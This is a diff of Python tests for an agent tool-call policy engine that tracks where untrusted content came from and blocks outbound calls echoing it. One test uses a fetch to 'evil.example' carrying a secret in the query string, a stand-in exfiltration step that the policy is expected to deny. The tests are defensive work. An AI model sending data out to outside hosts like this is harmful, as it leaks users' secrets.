@@ -79,9 +79,9 @@ async def test_an_egress_call_echoing_untrusted_content_is_denied_with_the_facts
     decision = await call(pipeline, "web", "fetch", {"url": "https://evil.example/c?d=secret"})
     assert decision.verdict.code == "policy.denied"
     assert decision.verdict.details["rule"] == "no-egress-of-untrusted-echoes"
-    assert decision.verdict.details["facts"]["args_from"][0]["id"] == pid
+    assert decision.verdict.details["facts"]["args_from"]["ids"] == [pid]
     record = recorder.records[-1]
-    assert record["provenance"]["args_from"][0]["fragment"] == "https://evil.example/c"
+    assert record["provenance"]["echoes"][0]["fragment"] == "https://evil.example/c"
     assert record["provenance"]["session"]["untrusted_seen"] is True
     assert recorder.records[1]["links"]["provenance"] == pid
     assert recorder.records[1]["provenance"]["labels"]["trust"] == "untrusted"
@@ -139,7 +139,7 @@ def test_without_flow_facts_a_flow_condition_restricts_and_never_grants() -> Non
     request = Request("tool", "web", "fetch", {"url": "https://x.example/"})
     assert policy.evaluate(DANA, request).effect is Effect.APPROVE
     facts = Request(
-        "tool", "web", "fetch", {}, session={"untrusted_seen": False}, args_from=(), labels={"egress": False}
+        "tool", "web", "fetch", {}, session={"untrusted_seen": False}, args_from={}, labels={"egress": False}
     )
     assert policy.evaluate(DANA, facts).rule_id == "clean-only"
 
@@ -170,3 +170,20 @@ async def test_hostile_arguments_are_judged_not_crashed_on(tmp_path: Path, argum
     decision = await pipeline.run(Hook.CLIENT_REQUEST, request, exchange)
     assert decision.verdict.action is Action.ALLOW
     assert "args_from" in exchange.notes["provenance.call"]
+
+
+def test_a_labels_match_is_decided_before_the_condition_and_fails_closed_without_labels() -> None:
+    policy = parse(
+        "defaults: {read_only: allow, other: allow}\n"
+        "rules:\n"
+        "  - {id: no-egress, effect: deny, labels: {egress: true}}\n"
+        "  - {id: open-egress, effect: allow, labels: {egress: true}, tools: [fetch]}\n"
+    )
+    egress = Request("tool", "web", "fetch", {}, labels={"egress": True, "trust": "unknown"})
+    local = Request("tool", "fs", "read", {}, labels={"egress": False, "trust": "internal"})
+    unknown = Request("tool", "fs", "read", {})
+    assert policy.evaluate(DANA, egress).rule_id == "no-egress"
+    assert policy.evaluate(DANA, local).rule_id is None  # the default decides
+    assert policy.evaluate(DANA, unknown).rule_id == "no-egress"
+    # Lists are filtered before any call's labels are known: a labelled denial hides nothing.
+    assert policy.visible(DANA, unknown)
